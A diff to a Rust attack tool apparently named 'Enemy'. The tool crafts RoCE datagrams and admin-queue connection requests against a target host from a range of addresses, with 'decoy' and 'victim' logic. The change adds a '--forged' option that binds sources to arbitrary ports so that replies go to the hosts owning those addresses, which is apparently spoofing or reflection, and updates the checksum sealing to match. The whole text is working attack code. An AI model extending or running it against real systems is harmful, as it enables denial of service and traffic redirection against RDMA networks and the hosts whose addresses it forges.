@@ -55,6 +55,9 @@ struct Arguments {
     /// Kind of datagrams
     #[arg(long, value_enum, default_value_t = Kind::Requests)]
     kind: Kind,
+    /// Send from any UDP ports: answers go to the hosts that have these addresses
+    #[arg(long)]
+    forged: bool,
     /// No target: occupy its address, and discard everything
     #[arg(long)]
     decoy: bool,
@@ -90,7 +93,7 @@ fn main() -> ExitCode {
 
 /// A source address.
 struct Source {
-    address: IpAddr,
+    address: SocketAddr,
     socket: UdpSocket,
     /// Bytes sent less bytes received.
     balance: i64,
@@ -123,9 +126,11 @@ impl Enemy {
         let target = IpAddr::V4(arguments.target);
         let port = |ip| SocketAddr::new(ip, ROCE_PORT);
         let source = |number| -> io::Result<Source> {
-            let address = IpAddr::V4(Ipv4Addr::from_bits(arguments.from.to_bits() + number));
-            let socket = UdpSocket::bind(port(address))?;
+            let ip = IpAddr::V4(Ipv4Addr::from_bits(arguments.from.to_bits() + number));
+            let any = arguments.forged.then_some(SocketAddr::new(ip, 0));
+            let socket = UdpSocket::bind(any.unwrap_or(port(ip)))?;
             socket.set_nonblocking(true)?;
+            let address = socket.local_addr()?;
             Ok(Source { address, socket, balance: 0, victim: None, left: 0, asked: None })
         };
         Ok(Enemy {
@@ -194,7 +199,7 @@ impl Enemy {
 
     /// Creates a connection request for an admin queue, as of a new host.
     fn make_request(&mut self, index: usize) {
-        let from = self.sources[index].address;
+        let from = self.sources[index].address.ip();
         let private = CmaHeader { source_port: 4000, source: from, destination: self.target };
         let mut user = [0; CmaHeader::USER_BYTES];
         let admin = cm::Request { hrqsize: 32, hsqsize_z: 31, ..cm::Request::default() }.emit();
@@ -263,7 +268,7 @@ impl Enemy {
 
     /// Adds the CRC to the datagram.
     fn seal(&mut self, index: usize) {
-        let source = SocketAddr::new(self.sources[index].address, ROCE_PORT);
+        let source = self.sources[index].address;
         let flow = Flow { source, destination: SocketAddr::new(self.target, ROCE_PORT) };
         let Some(bth) = self.out.first_chunk::<{ Bth::BYTES }>() else { return };
         let mut icrc = Icrc::start(&flow, 0, self.out.len() + ICRC_BYTES, bth);
